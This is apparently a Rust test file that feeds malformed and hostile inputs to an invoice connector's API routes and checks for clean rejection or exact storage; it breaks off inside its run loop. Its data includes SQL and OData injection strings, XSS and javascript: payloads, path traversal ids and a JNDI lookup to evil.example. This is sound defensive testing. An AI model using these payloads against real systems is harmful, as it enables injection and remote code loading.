//! Generated malformed and hostile inputs against the PSA-facing routes (authorize, test, push, read invoice):
//! wrong types, missing fields, huge strings, bad dates, bad amounts, control characters, unicode, injection
//! attempts in names, codes and ids, invalid JSON, wrong content, odd path ids, wrong keys — plus a seeded fuzz.
//!
//! Every case says what a correct connector does: refuse it with a 4xx whose envelope has a `code`, a `message`
//! and (when one field is at fault) that `field`; or accept it and store the text exactly (unicode and injection
//! attempts in names are valid data). A 5xx is never correct.

use std::fmt::Write as _;

use reqwest::Method;
use serde_json::{Value, json};

use crate::hostile::{send, set_path};
use crate::logs::Secrets;
use crate::rng::Rng;
use crate::table::{Table, Verdict};
use crate::world::{Company, World, WorldOptions};

const CONN: &str = "bu_h";
const TEST_CONN: &str = "bu_t";
const AUTH_CONN: &str = "bu_a";
const DIVISION: u32 = 1001;
const JAN: &str = "jan@jansen.example";

/// Which route group a case belongs to (one table row each).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Group {
    Authorize,
    Test,
    Push,
    /// Path ids, keys and methods on every route, and the invoice read.
    PathsAndKeys,
}

impl Group {
    const ALL: [Group; 4] = [
        Group::Authorize,
        Group::Test,
        Group::Push,
        Group::PathsAndKeys,
    ];

    fn label(self) -> &'static str {
        match self {
            Group::Authorize => "POST …/exact/authorize",
            Group::Test => "POST …/exact/test",
            Group::Push => "POST …/invoices",
            Group::PathsAndKeys => "odd path ids, wrong keys, wrong methods, GET …/invoices/{id}",
        }
    }
}

/// What a correct connector answers.
#[derive(Debug, Clone)]
enum Expect {
    /// A 4xx naming `field` when given; `status` when given.
    Reject {
        field: Option<String>,
        status: Option<u16>,
    },
    /// 2xx, and (for pushes) the hostile text stored exactly.
    Accept(Option<Verify>),
    /// 2xx or a clear 4xx.
    Either,
}

/// What to check in Exact after an accepted push.
#[derive(Debug, Clone)]
struct Verify {
    company_name: String,
    references: Vec<String>,
}

#[derive(Debug, Clone)]
struct Case {
    group: Group,
    what: String,
    method: Method,
    path: String,
    body: Option<Vec<u8>>,
    content_type: Option<&'static str>,
    auth: Option<String>,
    expect: Expect,
    /// A second request sent right after the first one (same company name, another PSA company): both must
    /// land on one Exact account.
    follow_up: Option<Value>,
}

fn key() -> Option<String> {
    Some(format!("Bearer {}", e2e::PSA_KEY))
}

fn reject(field: &str) -> Expect {
    Expect::Reject {
        field: Some(field.to_owned()),
        status: None,
    }
}

fn reject_any() -> Expect {
    Expect::Reject {
        field: None,
        status: None,
    }
}

fn json_case(group: Group, what: String, path: &str, body: &Value, expect: Expect) -> Case {
    Case {
        group,
        what,
        method: Method::POST,
        path: path.to_owned(),
        body: Some(body.to_string().into_bytes()),
        content_type: Some("application/json"),
        auth: key(),
        expect,
        follow_up: None,
    }
}

fn raw_case(
    group: Group,
    what: &str,
    path: &str,
    body: Vec<u8>,
    ct: &'static str,
    expect: Expect,
) -> Case {
    Case {
        group,
        what: what.to_owned(),
        method: Method::POST,
        path: path.to_owned(),
        body: Some(body),
        content_type: Some(ct),
        auth: key(),
        expect,
        follow_up: None,
    }
}

fn push_path() -> String {
    format!("/connections/{CONN}/invoices")
}

fn test_path() -> String {
    format!("/connections/{TEST_CONN}/exact/test")
}

fn authorize_path() -> String {
    format!("/connections/{AUTH_CONN}/exact/authorize")
}

/// A valid invoice with a unique id (`n`).
fn base_invoice(n: usize) -> Value {
    let mut v = crate::world::invoice(
        &format!("h{n}"),
        &Company {
            id: "cmp_hostile".into(),
            name: "Hostile Holdings B.V.".into(),
            email: "ap@hostile.example".into(),
        },
    );
    v["lines"][0]["amount"] = json!("100.00");
    v
}

fn base_settings() -> Value {
    json!({"item_code": "CONSULT", "journal_code": "72", "tax_code": "",
           "tax_categories": [{"category": "low", "exact_vat_code": "1"}],
           "send_invoice_to_customer": false, "delivery": "psa"})
}

/// Required string fields of the invoice with their length limits.
const INVOICE_STRINGS: &[(&str, usize, bool)] = &[
    ("id", 128, true),
    ("reference", 60, true),
    ("name", 255, true),
    ("project.number", 255, true),
    ("project.name", 255, true),
    ("company.id", 128, true),
    ("company.name", 255, true),
    ("company.address", 255, false),
    ("company.city", 255, false),
    ("contact.first_name", 50, false),
    ("contact.last_name", 50, false),
    ("contact.email", 254, true),
    // "1 - {name}" must fit 60 characters.
    ("lines[0].name", 56, true),
    ("lines[0].description", 1000, false),
    ("lines[0].item_code", 60, false),
    ("lines[0].tax_category", 60, false),
];

fn generate() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut n = 0usize;
    let mut next = || {
        n += 1;
        n
    };
    let push = push_path();
    let inv = |what: String, path: &str, value: Option<Value>, expect: Expect, n: usize| {
        let mut body = base_invoice(n);
        set_path(&mut body, path, value);
        json_case(Group::Push, what, &push, &body, expect)
    };

    // Missing required fields and objects.
    for (path, _, required) in INVOICE_STRINGS {
        if *required {
            cases.push(inv(
                format!("missing {path}"),
                path,
                None,
                reject(path),
                next(),
            ));
            cases.push(inv(
                format!("{path} = null"),
                path,
                Some(Value::Null),
                reject(path),
                next(),
            ));
        }
    }
    for path in [
        "invoice_date",
        "lines[0].number",
        "lines[0].amount",
        "lines",
        "project",
        "company",
        "contact",
    ] {
        cases.push(inv(
            format!("missing {path}"),
            path,
            None,
            reject(path),
            next(),
        ));
    }
    // Wrong types.
    let wrong: [(&str, Value); 4] = [
        ("a number", json!(12345)),
        ("a boolean", json!(true)),
        ("an array", json!(["x"])),
        ("an object", json!({"x": 1})),
    ];
    for (path, _, _) in INVOICE_STRINGS {
        for (label, v) in &wrong {
            cases.push(inv(
                format!("{path} is {label}"),
                path,
                Some(v.clone()),
                reject(path),
                next(),
            ));
        }
    }
    let typed: &[(&str, &[Value])] = &[
        ("credit", &[json!("true"), json!(1), json!([]), json!({})]),
        (
            "invoice_date",
            &[json!(20251001), json!(true), json!(["2025-10-01"])],
        ),
        (
            "lines[0].amount",
            &[json!(100.0), json!(100), json!(true), json!(["100.00"])],
        ),
        (
            "lines[0].number",
            &[
                json!("1"),
                json!(true),
                json!(1.5),
                json!(-1),
                json!(0),
                json!(4_294_967_296u64),
                json!([1]),
            ],
        ),
        ("lines", &[json!("x"), json!(5), json!({})]),
        ("lines[0]", &[json!(5), json!("line"), json!(null)]),
        ("period", &[json!("2025-09"), json!(5), json!([])]),
        ("period.from", &[json!(20250901), json!(true)]),
        ("project", &[json!("P-1"), json!(5), json!([])]),
        ("company", &[json!("Acme"), json!(5), json!([])]),
        (
            "contact",
            &[json!("jane@acme.example"), json!(5), json!([])],
        ),
    ];
    for (path, values) in typed {
        for v in *values {
            cases.push(inv(
                format!("{path} = {v}"),
                path,
                Some(v.clone()),
                reject(path),
                next(),
            ));
        }
    }
    // Huge strings.
    for (path, max, _) in INVOICE_STRINGS {
        let over = if *path == "contact.email" {
            format!("{}@x.example", "a".repeat(*max))
        } else {
            "A".repeat(max + 1)
        };
        cases.push(inv(
            format!("{path}: {} characters", over.chars().count()),
            path,
            Some(json!(over)),
            reject(path),
            next(),
        ));
    }
    for path in [
        "name",
        "company.name",
        "reference",
        "lines[0].description",
        "id",
    ] {
        cases.push(inv(
            format!("{path}: 100,000 characters"),
            path,
            Some(json!("Z".repeat(100_000))),
            reject(path),
            next(),
        ));
    }
    // 2 MB: over the body limit, refused before it is parsed.
    cases.push(inv(
        "name: 1,000,000 characters".into(),
        "name",
        Some(json!("é".repeat(1_000_000))),
        Expect::Reject {
            field: Some("body".into()),
            status: Some(413),
        },
        next(),
    ));
    // Blank required strings.
    for (path, _, required) in INVOICE_STRINGS {
        if *required && *path != "contact.email" {
            cases.push(inv(
                format!("{path} empty"),
                path,
                Some(json!("")),
                reject(path),
                next(),
            ));
            cases.push(inv(
                format!("{path} blank"),
                path,
                Some(json!("   ")),
                reject(path),
                next(),
            ));
        }
    }
    // Control characters.
    for path in [
        "name",
        "company.name",
        "lines[0].name",
        "reference",
        "project.name",
    ] {
        for (label, s) in [
            ("NUL", "a\u{0}b"),
            ("line break", "a\nb"),
            ("escape", "a\u{1b}[31mb"),
            ("DEL", "a\u{7f}b"),
        ] {
            cases.push(inv(
                format!("{path} with {label}"),
                path,
                Some(json!(s)),
                reject(path),
                next(),
            ));
        }
    }
    // Bad dates.
    for d in [
        "2025-13-01",
        "2025-02-30",
        "01-10-2025",
        "2025/10/01",
        "2025-10-1",
        "1899-12-31",
        "10000-01-01",
        "2025-10-01T00:00:00Z",
        "tomorrow",
        "２０２５-10-01",
        "",
        "-2025-10-01",
        "2025-00-10",
        "2025-10-00",
    ] {
        cases.push(inv(
            format!("invoice_date {d:?}"),
            "invoice_date",
            Some(json!(d)),
            reject("invoice_date"),
            next(),
        ));
    }
    cases.push(inv(
        "period.from 2025-02-30".into(),
        "period.from",
        Some(json!("2025-02-30")),
        reject("period.from"),
        next(),
    ));
    cases.push(inv(
        "period.until \"x\"".into(),
        "period.until",
        Some(json!("x")),
        reject("period.until"),
        next(),
    ));
    cases.push(inv(
        "period.until missing".into(),
        "period.until",
        None,
        reject("period.until"),
        next(),
    ));
    cases.push(inv(
        "period ends before it starts".into(),
        "period",
        Some(json!({"from": "2025-09-30", "until": "2025-09-01"})),
        reject("period"),
        next(),
    ));
    // Amounts.
    for a in [
        "1e5",
        "NaN",
        "Infinity",
        "12,50",
        "0x10",
        "",
        "  ",
        "1.005",
        "+5",
        "1 000",
        "1000000000000",
        "--1",
        "١٢٣",
        "100.00 EUR",
        "€100",
        ".5",
        "5.",
    ] {
        cases.push(inv(
            format!("amount {a:?}"),
            "lines[0].amount",
            Some(json!(a)),
            reject("lines[0].amount"),
            next(),
        ));
    }
    cases.push(inv(
        "negative amount on an invoice".into(),
        "lines[0].amount",
        Some(json!("-100.00")),
        reject("credit"),
        next(),
    ));
    {
        let mut body = base_invoice(next());
        body["credit"] = json!(true);
        cases.push(json_case(
            Group::Push,
            "credit note with a positive total".into(),
            &push,
            &body,
            reject("credit"),
        ));
        let mut body = base_invoice(next());
        let l = body["lines"][0].clone();
        body["lines"] = json!([l.clone(), l]);
        cases.push(json_case(
            Group::Push,
            "two lines numbered 1".into(),
            &push,
            &body,
            reject("lines"),
        ));
        let mut body = base_invoice(next());
        body["lines"] = json!([]);
        cases.push(json_case(
            Group::Push,
            "no lines".into(),
            &push,
            &body,
            reject("lines"),
        ));
        let mut body = base_invoice(next());
        let lines: Vec<Value> = (1..=501)
            .map(|i| json!({"number": i, "name": "x", "amount": "1.00"}))
            .collect();
        body["lines"] = Value::Array(lines);
        cases.push(json_case(
            Group::Push,
            "501 lines".into(),
            &push,
            &body,
            reject("lines"),
        ));
    }
    // E-mails.
    for e in [
        "not-an-email",
        "a@",
        "@b.example",
        "a b@c.example",
        "a@b@c.example",
        "jane@acme.example\u{0}",
        "jane@.example",
        "jane@acme..example",
        "jane@-acme.example",
        "jane@acme",
    ] {
        cases.push(inv(
            format!("email {e:?}"),
            "contact.email",
            Some(json!(e)),
            reject("contact.email"),
            next(),
        ));
    }
    // Invoice ids (part of the storage key).
    for id in [
        "inv 1",
        "inv/1",
        "inv'1",
        "inv;DROP TABLE x",
        "inv#1",
        "ünï",
        "inv\u{0}",
        "../x",
        "inv%27",
        "inv\"1",
    ] {
        cases.push(inv(
            format!("id {id:?}"),
            "id",
            Some(json!(id)),
            reject("id"),
            next(),
        ));
    }
    // Invalid JSON and wrong content.
    let valid = base_invoice(next()).to_string();
    let trailing_comma = format!("{},}}", &valid[..valid.len() - 1]);
    for (what, body) in [
        ("truncated JSON", b"{".to_vec()),
        ("JSON with a missing value", br#"{"id":}"#.to_vec()),
        ("single-quoted JSON", b"{'id':'x'}".to_vec()),
        ("trailing comma", trailing_comma.into_bytes()),
        ("NaN literal", b"NaN".to_vec()),
        ("top-level array", b"[1,2]".to_vec()),
        ("top-level string", br#""invoice""#.to_vec()),
        ("null", b"null".to_vec()),
        ("a number", b"42".to_vec()),
        ("empty body", Vec::new()),
        ("whitespace body", b"   \n ".to_vec()),
        ("100,000 nested arrays", "[".repeat(100_000).into_bytes()),
        ("not UTF-8", vec![0xff, 0xfe, b'{', b'}']),
        (
            "valid JSON then garbage",
            format!("{valid} trailing").into_bytes(),
        ),
    ] {
        cases.push(raw_case(
            Group::Push,
            what,
            &push,
            body,
            "application/json",
            reject("body"),
        ));
    }
    cases.push(raw_case(
        Group::Push,
        "XML body",
        &push,
        b"<invoice id=\"1\"/>".to_vec(),
        "application/xml",
        reject("body"),
    ));
    cases.push(raw_case(
        Group::Push,
        "form body",
        &push,
        b"id=1&name=x".to_vec(),
        "application/x-www-form-urlencoded",
        reject("body"),
    ));
    let dup = base_invoice(next()).to_string();
    let dup = format!("{},\"id\":\"inv dup\"}}", &dup[..dup.len() - 1]);
    cases.push(raw_case(
        Group::Push,
        "duplicate key (second id invalid)",
        &push,
        dup.into_bytes(),
        "application/json",
        Expect::Either,
    ));
    let bom = format!("\u{feff}{}", base_invoice(next()));
    cases.push(raw_case(
        Group::Push,
        "UTF-8 BOM before the JSON",
        &push,
        bom.into_bytes(),
        "application/json",
        Expect::Either,
    ));
    let plain = base_invoice(next()).to_string();
    cases.push(raw_case(
        Group::Push,
        "valid JSON sent as text/plain",
        &push,
        plain.into_bytes(),
        "text/plain",
        Expect::Either,
    ));
    // Items that must not resolve (an injectable filter would find one).
    for code in [
        "NOPE",
        "CONSULT' or Code ne '",
        "x' or 1 eq 1 or Code eq 'y",
        "LICENSE",
        "OLDITEM",
    ] {
        cases.push(inv(
            format!("line item_code {code:?}"),
            "lines[0].item_code",
            Some(json!(code)),
            reject_any(),
            next(),
        ));
    }

    // Valid data that looks hostile: must be accepted and stored exactly, one account per name.
    let names = [
        "O'Brien & Zonen B.V.",
        "x' or Name ne 'y",
        "Robert'); DROP TABLE Accounts;--",
        "<script>alert(1)</script> B.V.",
        "${jndi:ldap://evil.example/a}",
        "Ünïcødé GmbH 株式会社 🚀",
        "\u{202e}gnp.exe Holding",
        "%27 or 1 eq 1 %00",
        "back\\slash \"quoted\" Co",
        "Zero\u{200b}Width Ltd",
    ];
    for (i, name) in names.iter().enumerate() {
        let mut a = base_invoice(next());
        a["company"]["id"] = json!(format!("cmp_acc_{i}_a"));
        a["company"]["name"] = json!(name);
        a["contact"]["email"] = json!(format!("ap{i}@hostile.example"));
        let mut b = base_invoice(next());
        b["company"]["id"] = json!(if i == 1 {
            "x' or 1 eq 1".to_owned()
        } else {
            format!("cmp_acc_{i}_b")
        });
        b["company"]["name"] = json!(name);
        b["contact"]["email"] = json!(format!("ap{i}@hostile.example"));
        if i == 2 {
            a["reference"] = json!("REF' or YourRef ne '");
            a["lines"][0]["name"] = json!("Consult'ancy <b>bold</b>");
            a["project"]["name"] = json!("P'; DROP TABLE projects; --");
        }
        let refs = vec![
            a["reference"].as_str().unwrap_or("").to_owned(),
            b["reference"].as_str().unwrap_or("").to_owned(),
        ];
        let mut c = json_case(
            Group::Push,
            format!("company name {name:?} (pushed for two PSA companies)"),
            &push,
            &a,
            Expect::Accept(Some(Verify {
                company_name: (*name).to_owned(),
                references: refs,
            })),
        );
        c.follow_up = Some(b);
        cases.push(c);
    }

    cases.extend(test_cases());
    cases.extend(authorize_cases());
    cases.extend(path_cases(&mut next));
    cases.extend(fuzz(&mut next));
    cases
}

fn test_cases() -> Vec<Case> {
    let path = test_path();
    let mut out = Vec::new();
    let mut with = |what: String, field: &str, value: Option<Value>, expect: Expect| {
        let mut body = base_settings();
        set_path(&mut body, field, value);
        out.push(json_case(Group::Test, what, &path, &body, expect));
    };
    for f in ["item_code", "journal_code"] {
        with(format!("missing {f}"), f, None, reject(f));
        with(format!("{f} = null"), f, Some(Value::Null), reject(f));
        with(format!("{f} empty"), f, Some(json!("")), reject(f));
    }
    let typed: &[(&str, &[Value])] = &[
        (
            "item_code",
            &[json!(12345), json!(true), json!([]), json!({})],
        ),
        ("journal_code", &[json!(72), json!(false), json!(["72"])]),
        ("tax_code", &[json!(2), json!(true), json!(["2"])]),
        (
            "tax_categories",
            &[json!("low"), json!(5), json!({"low": "1"})],
        ),
        ("tax_categories[0]", &[json!(5), json!("low")]),
        (
            "tax_categories[0].category",
            &[json!(5), json!(""), json!(null)],
        ),
        (
            "tax_categories[0].exact_vat_code",
            &[json!(1), json!(""), json!(null), json!("1111")],
        ),
        (
            "send_invoice_to_customer",
            &[json!("yes"), json!(1), json!([])],
        ),
        ("delivery", &[json!("email"), json!(5), json!("")]),
    ];
    for (f, values) in typed {
        for v in *values {
            with(format!("{f} = {v}"), f, Some(v.clone()), reject(f));
        }
    }
    with(
        "item_code 61 characters".into(),
        "item_code",
        Some(json!("I".repeat(61))),
        reject("item_code"),
    );
    with(
        "item_code 100,000 characters".into(),
        "item_code",
        Some(json!("I".repeat(100_000))),
        reject("item_code"),
    );
    with(
        "journal_code 21 characters".into(),
        "journal_code",
        Some(json!("7".repeat(21))),
        reject("journal_code"),
    );
    with(
        "tax_code 4 characters".into(),
        "tax_code",
        Some(json!("2222")),
        reject("tax_code"),
    );
    with(
        "category 61 characters".into(),
        "tax_categories[0].category",
        Some(json!("c".repeat(61))),
        reject("tax_categories"),
    );
    with(
        "item_code with a line break".into(),
        "item_code",
        Some(json!("CON\nSULT")),
        reject("item_code"),
    );
    with(
        "duplicate tax category".into(),
        "tax_categories",
        Some(
            json!([{"category": "a", "exact_vat_code": "1"}, {"category": "a", "exact_vat_code": "2"}]),
        ),
        reject("tax_categories"),
    );
    // Codes that must fail Exact's check (an injectable OData filter would make them pass).
    for (f, v) in [
        ("item_code", "CONSULT' or Code ne '"),
        ("item_code", "x' or 1 eq 1 or Code eq 'y"),
        ("journal_code", "72' or '1' eq '1"),
        ("journal_code", "7' or Code ne '"),
        ("tax_code", "2'"),
        ("tax_code", "'"),
        ("tax_categories[0].exact_vat_code", "1'"),
        ("item_code", "NOPE"),
        ("item_code", "LICENSE"),
        ("item_code", "OLDITEM"),
        ("journal_code", "71"),
        ("journal_code", "60"),
        ("tax_code", "5"),
        ("tax_code", "8"),
    ] {
        with(
            format!("{f} {v:?} (must fail the check)"),
            f,
            Some(json!(v)),
            reject_any(),
        );
    }
    for (what, body) in [
        ("truncated JSON", b"{".to_vec()),
        ("top-level array", b"[]".to_vec()),
        ("empty body", Vec::new()),
        ("null", b"null".to_vec()),
    ] {
        out.push(raw_case(
            Group::Test,
            what,
            &path,
            body,
            "application/json",
            reject("body"),
        ));
    }
    let mut ok = base_settings();
    ok["tax_categories"] = json!([{"category": "Hoog tarief 🇳🇱 'x'", "exact_vat_code": "2"}]);
    out.push(json_case(
        Group::Test,
        "unicode and quotes in a category name".into(),
        &path,
        &ok,
        Expect::Accept(None),
    ));
    out
}

fn authorize_cases() -> Vec<Case> {
    let path = authorize_path();
    let base = json!({"country": "nl", "return_url": "https://psa.example/settings"});
    let mut out = Vec::new();
    let mut with = |what: String, field: &str, value: Option<Value>, expect: Expect| {
        let mut body = base.clone();
        set_path(&mut body, field, value);
        out.push(json_case(Group::Authorize, what, &path, &body, expect));
    };
    for v in [
        json!("gb"),
        json!("NL'"),
        json!("nl; DROP TABLE x"),
        json!(7),
        json!(null),
        json!([]),
        json!({}),
        json!(""),
        json!("  "),
        json!("n\u{0}l"),
        json!("ñl"),
        json!("x".repeat(100_000)),
    ] {
        let what = format!("country = {}", short(&v));
        with(what, "country", Some(v), reject("country"));
    }
    with("country missing".into(), "country", None, reject("country"));
    for v in [
        json!("http://psa.example/"),
        json!("javascript:alert(1)"),
        json!("ftp://psa.example/"),
        json!(""),
        json!(5),
        json!(null),
        json!([]),
        json!("//evil.example/"),
        json!("https://"),
        json!("not a url"),
        json!("data:text/html,<script>alert(1)</script>"),
    ] {
        let what = format!("return_url = {}", short(&v));
        with(what, "return_url", Some(v), reject("return_url"));
    }
    with(
        "return_url missing".into(),
        "return_url",
        None,
        reject("return_url"),
    );
    with(
        "return_url of 100,000 characters".into(),
        "return_url",
        Some(json!(format!(
            "https://psa.example/{}",
            "a".repeat(100_000)
        ))),
        Expect::Either,
    );
    with(
        "return_url with quotes, markup and unicode".into(),
        "return_url",
        Some(json!("https://psa.example/ünï?x='1'&y=<b>")),
        Expect::Accept(None),
    );
    with(
        "country \" NL \"".into(),
        "country",
        Some(json!(" NL ")),
        Expect::Accept(None),
    );
    for (what, body) in [
        ("truncated JSON", b"{\"country\":".to_vec()),
        ("top-level array", b"[\"nl\"]".to_vec()),
        ("empty body", Vec::new()),
        ("not UTF-8", vec![0xc3, 0x28]),
    ] {
        out.push(raw_case(
            Group::Authorize,
            what,
            &path,
            body,
            "application/json",
            reject("body"),
        ));
    }
    out
}

fn short(v: &Value) -> String {
    let s = v.to_string();
    if s.chars().count() > 40 {
        format!(
            "{}… ({} chars)",
            s.chars().take(20).collect::<String>(),
            s.chars().count()
        )
    } else {
        s
    }
}

fn path_cases(next: &mut impl FnMut() -> usize) -> Vec<Case> {
    let mut out = Vec::new();
    let long = "a".repeat(65);
    let ids: Vec<(&str, bool)> = vec![
        ("bad%20id", true),
        (&long, true),
        ("%C3%BC", true),
        ("..", false),
        ("%2e%2e", false),
        ("a%2Fb", true),
        ("%27or%271%27%3D%271", true),
        ("%00", true),
        ("%3Cscript%3E", true),
        ("x%23y", true),
        ("%F0%9F%9A%80", true),
        ("a.b", true),
    ];
    for (id, names_field) in &ids {
        let expect = if *names_field {
            reject("connection_id")
        } else {
            reject_any()
        };
        let mut inv = base_invoice(next());
        inv["id"] = json!(format!("inv_path_{}", next()));
        out.push(json_case(
            Group::PathsAndKeys,
            format!("push to connection id {id:?}"),
            &format!("/connections/{id}/invoices"),
            &inv,
            expect.clone(),
        ));
        out.push(json_case(
            Group::PathsAndKeys,
            format!("test on connection id {id:?}"),
            &format!("/connections/{id}/exact/test"),
            &base_settings(),
            expect.clone(),
        ));
        out.push(json_case(
            Group::PathsAndKeys,
            format!("authorize connection id {id:?}"),
            &format!("/connections/{id}/exact/authorize"),
            &json!({"country": "nl", "return_url": "https://psa.example/"}),
            expect,
        ));
    }
    out.push(json_case(
        Group::PathsAndKeys,
        "push to an unknown connection".into(),
        "/connections/nobody_here/invoices",
        &base_invoice(next()),
        reject_any(),
    ));
    out.push(json_case(
        Group::PathsAndKeys,
        "test on an unknown connection".into(),
        "/connections/nobody_here/exact/test",
        &base_settings(),
        reject_any(),
    ));
    let long_inv = "x".repeat(129);
    for id in [
        "a%20b",
        long_inv.as_str(),
        "%27%20or%20%271",
        "%00",
        "%3Cscript%3E",
        "inv%2F1",
        "%C3%BC",
        "unknown_invoice",
    ] {
        out.push(Case {
            group: Group::PathsAndKeys,
            what: format!("read invoice id {id:?}"),
            method: Method::GET,
            path: format!("/connections/{CONN}/invoices/{id}"),
            body: None,
            content_type: None,
            auth: key(),
            expect: reject_any(),
            follow_up: None,
        });
    }
    let routes = [
        (push_path(), base_invoice(next())),
        (test_path(), base_settings()),
        (
            authorize_path(),
            json!({"country": "nl", "return_url": "https://psa.example/"}),
        ),
    ];
    for (path, body) in &routes {
        for auth in [
            None,
            Some("Bearer wrong-key".to_owned()),
            Some(format!("Basic {}", e2e::PSA_KEY)),
            Some(format!("Bearer {}2", e2e::PSA_KEY)),
            Some(format!("Bearer{}", e2e::PSA_KEY)),
            Some("Bearer ".to_owned()),
            Some(format!(
                "Bearer {}",
                &e2e::PSA_KEY[..e2e::PSA_KEY.len() - 1]
            )),
        ] {
            let mut c = json_case(
                Group::PathsAndKeys,
                format!("{path} with Authorization {auth:?}"),
                path,
                body,
                Expect::Reject {
                    field: None,
                    status: Some(401),
                },
            );
            c.auth = auth;
            out.push(c);
        }
    }
    for (method, path) in [
        (Method::PUT, push_path()),
        (Method::DELETE, test_path()),
        (Method::PATCH, authorize_path()),
        (Method::GET, test_path()),
        (
            Method::DELETE,
            format!("/connections/{CONN}/invoices/inv_h1"),
        ),
    ] {
        out.push(Case {
            group: Group::PathsAndKeys,
            what: format!("{method} {path}"),
            method,
            path,
            body: None,
            content_type: None,
            auth: key(),
            expect: reject_any(),
            follow_up: None,
        });
    }
    out
}

/// Seeded fuzz: a random field of a valid invoice or settings body replaced by random text or values. Such input
/// may be valid, so either answer is right — as long as a refusal is clear and nothing answers 5xx.
fn fuzz(next: &mut impl FnMut() -> usize) -> Vec<Case> {
    let mut rng = Rng::new(0x5EED_0009);
    let mut out = Vec::new();
    let invoice_fields: Vec<&str> = INVOICE_STRINGS
        .iter()
        .map(|(p, _, _)| *p)
        .chain([
            "invoice_date",
            "credit",
            "lines[0].amount",
            "lines[0].number",
            "period.from",
            "period.until",
        ])
        .collect();
    let settings_fields = [
        "item_code",
        "journal_code",
        "tax_code",
        "tax_categories[0].category",
        "tax_categories[0].exact_vat_code",
        "send_invoice_to_customer",
        "delivery",
    ];
    for i in 0..100 {
        let value = random_value(&mut rng, 0);
        if i % 4 == 3 {
            let field = *rng.pick(&settings_fields);
            let mut body = base_settings();
            set_path(&mut body, field, Some(value.clone()));
            out.push(json_case(
                Group::Test,
                format!("fuzz #{i}: {field} = {}", short(&value)),
                &test_path(),
                &body,
                Expect::Either,
            ));
        } else {
            let field = *rng.pick(&invoice_fields);
            let mut body = base_invoice(next());
            body["company"]["id"] = json!(format!("cmp_fuzz_{i}"));
            set_path(&mut body, field, Some(value.clone()));
            out.push(json_case(
                Group::Push,
                format!("fuzz #{i}: {field} = {}", short(&value)),
                &push_path(),
                &body,
                Expect::Either,
            ));
        }
    }
    out
}

const ALPHABET: &[&str] = &[
    "a", "Z", "0", "9", " ", "'", "\"", "\\", "/", "%", "#", "&", "<", ">", ";", "--", "$", "{",
    "}", "é", "ß", "ø", "株", "式", "🚀", "🇳🇱", "\u{202e}", "\u{200b}", "\u{0}", "\n", "\t",
    "\u{7f}", "\u{fffd}", "ﷺ", "𝕏", "-", ".", "@", "e", "E", "+",
];

fn random_value(rng: &mut Rng, depth: usize) -> Value {
    match rng.below(if depth > 1 { 6 } else { 8 }) {
        0..=2 => {
            let len = if rng.chance(10) {
                200 + rng.below(3000)
            } else {
                rng.below(40)
            };
            let mut s = String::new();
            for _ in 0..len {
                s.push_str(ALPHABET[rng.below(ALPHABET.len())]);
            }
            Value::String(s)
        }
        3 => {
            let digits = rng.below(16) + 1;
            let mut s = String::new();
            if rng.chance(30) {
                s.push('-');
            }
            for _ in 0..digits {
                let _ = write!(s, "{}", rng.below(10));
            }
            if rng.chance(50) {
                let _ = write!(s, ".{}", rng.below(1000));
            }
            Value::String(s)
        }
        4 => match rng.below(5) {
            0 => json!(rng.next_u64()),
            1 => json!(-(i64::try_from(rng.below(1_000_000)).unwrap_or(0))),
            2 => json!(f64::from(u32::try_from(rng.below(100_000)).unwrap_or(0)) / 7.0),
            3 => json!(1e300),
            _ => json!(0),
        },
        5 => match rng.below(3) {
            0 => Value::Null,
            1 => Value::Bool(rng.chance(50)),
            _ => json!("2025-10-01"),
        },
        6 => Value::Array(
            (0..rng.below(4))
                .map(|_| random_value(rng, depth + 1))
                .collect(),
        ),
        _ => {
            let mut m = serde_json::Map::new();
            for i in 0..rng.below(4) {
                m.insert(format!("k{i}"), random_value(rng, depth + 1));
            }
            Value::Object(m)
        }
    }
}

/// How one case went.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Outcome {
    Clear4xx,
    Unclear4xx,
    AcceptedOk,
    /// 2xx for input that must be refused.
    WronglyAccepted,
    /// Valid hostile-looking data refused, or stored wrongly.
    Mishandled,
    /// Any 5xx, 501 included: every route exists, so "not implemented" is a server failure like the others.
    Server5xx,
}

#[derive(Default)]
struct Tally {
    n: usize,
    counts: std::collections::BTreeMap<&'static str, usize>,
}

impl Tally {
    fn add(&mut self, o: Outcome) {
        self.n += 1;
        let k = match o {
            Outcome::Clear4xx => "clear 4xx",
            Outcome::Unclear4xx => "unclear 4xx",
            Outcome::AcceptedOk => "accepted as intended",
            Outcome::WronglyAccepted => "malformed accepted",
            Outcome::Mishandled => "valid data mishandled",
            Outcome::Server5xx => "5xx",
        };
        *self.counts.entry(k).or_default() += 1;
    }
    fn get(&self, k: &str) -> usize {
        self.counts.get(k).copied().unwrap_or(0)
    }
}

/// Whether a 4xx envelope is clear: code and message present, and the field named when one is at fault.
fn clear(body: &Value, field: Option<&str>) -> Result<(), String> {
    let e = &body["error"];
    let code = e["code"].as_str().unwrap_or("");
    let message = e["message"].as_str().unwrap_or("");
    if code.is_empty() || message.is_empty() {
        return Err(format!("no code/message in {}", short_body(body)));
    }
    if let Some(want) = field {
        let got = e["field"].as_str().unwrap_or("");
        let ok = got == want
            || got.starts_with(&format!("{want}."))
            || got.starts_with(&format!("{want}["));
        if !ok {
            return Err(format!("field {got:?}, expected {want:?} ({code})"));
        }
    }
    Ok(())
}

fn short_body(v: &Value) -> String {
    v.to_string().chars().take(160).collect()
}

/// Runs every generated case and adds the rows.
pub async fn run(table: &mut Table, secrets: &mut Secrets) {
    let mut opts = WorldOptions::default();
    // Many accepted pushes in a short time: the rate limit is not what this group tests.
    opts.sandbox.minutely_limit = 100_000;
    opts.sandbox.daily_limit = 1_000_000;
    let w = World::start(opts).await;
    w.connect(CONN, JAN, DIVISION).await;
    w.connect(TEST_CONN, JAN, DIVISION).await;
    let configured = w.configure(CONN, "72").await;

    let cases = generate();
    let mut tallies: std::collections::BTreeMap<Group, Tally> = Default::default();
    let mut problems: Vec<String> = Vec::new();
    for c in &cases {
        let (status, _, body) = send(
            &w.h,
            c.method.clone(),
            &c.path,
            c.body.clone(),
            c.content_type,
            c.auth.as_deref(),
        )
        .await;
        let mut outcome = classify(status, &body, &c.expect, &mut problems, &c.what);
        if let (Some(second), Outcome::AcceptedOk) = (&c.follow_up, outcome) {
            let (s2, _, b2) = send(
                &w.h,
                Method::POST,
                &c.path,
                Some(second.to_string().into_bytes()),
                Some("application/json"),
                key().as_deref(),
            )
            .await;
